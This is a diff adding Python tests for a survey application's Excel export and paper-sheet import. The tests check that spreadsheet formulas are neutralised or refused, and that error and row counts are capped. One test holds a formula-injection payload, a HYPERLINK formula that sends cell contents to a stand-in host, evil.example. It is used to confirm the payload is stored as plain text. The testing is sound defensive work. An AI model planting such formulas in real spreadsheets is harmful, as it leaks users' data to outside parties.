@@ -109,3 +109,52 @@ def test_raw_data_joins_answers_to_their_responses(world, survey):
     workbook = load_workbook(io.BytesIO(excel.raw_data_workbook(survey)), read_only=True)
     rows = list(workbook["Data"].iter_rows(values_only=True))[1:]
     assert [r[8:17] for r in rows] == [(1,) * 9, (2,) * 9, (4,) * 9]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+
+
+def test_an_anonymous_suggestion_that_looks_like_a_formula_is_written_as_text_in_the_raw_data(world, survey):
+    services.response_submit(
+        survey=survey,
+        data={**data(survey), "suggestion": HOSTILE},
+        channel="paper",
+        user=world.users["dinkes_operator"],
+    )
+    sheet = load_workbook(io.BytesIO(excel.raw_data_workbook(survey)))["Data"]
+    cell = sheet.cell(row=2, column=sheet.max_column - 1)
+    assert cell.value == HOSTILE and cell.data_type == "s"
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_a_formula_in_the_paper_sheet_is_refused_naming_its_cell_and_text_with_equals_is_kept(world, survey):
+    from kinerja.core.spreadsheets import append_row
+
+    workbook = load_workbook(io.BytesIO(_sheet([_row()])))
+    workbook["Kuesioner"]["F2"] = "=2+2"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    result = excel.import_paper(user=world.users["dinkes_operator"], survey=survey, data=buffer.getvalue())
+    assert result.errors == [(2, "Sheet Kuesioner, cell F2 holds a formula; type the value itself.")]
+    assert Response.objects.count() == 0
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.title = "Kuesioner"
+    append_row(sheet, excel.PROFILE_COLUMNS + CODES + ["saran"])
+    append_row(sheet, _row(saran="=tolong perbaiki antrean"))
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    result = excel.import_paper(user=world.users["dinkes_operator"], survey=survey, data=buffer.getvalue())
+    assert result.ok and Response.objects.get().suggestion == "=tolong perbaiki antrean"
+
+
+def test_paper_import_errors_are_bounded_and_rows_capped(world, survey, settings, monkeypatch):
+    settings.IMPORT_MAX_ERRORS = 3
+    result = excel.import_paper(
+        user=world.users["dinkes_operator"], survey=survey, data=_sheet([_row(gender="X")] * 20)
+    )
+    assert len(result.errors) == 4 and result.errors[-1] == (0, "… and 17 more errors.")
+    monkeypatch.setattr(excel, "PAPER_MAX_ROWS", 10)
+    result = excel.import_paper(user=world.users["dinkes_operator"], survey=survey, data=_sheet([_row()] * 20))
+    assert result.errors == [(0, "Sheet Kuesioner has more than 10 rows to import; nothing was read beyond that.")]
+    assert Response.objects.count() == 0
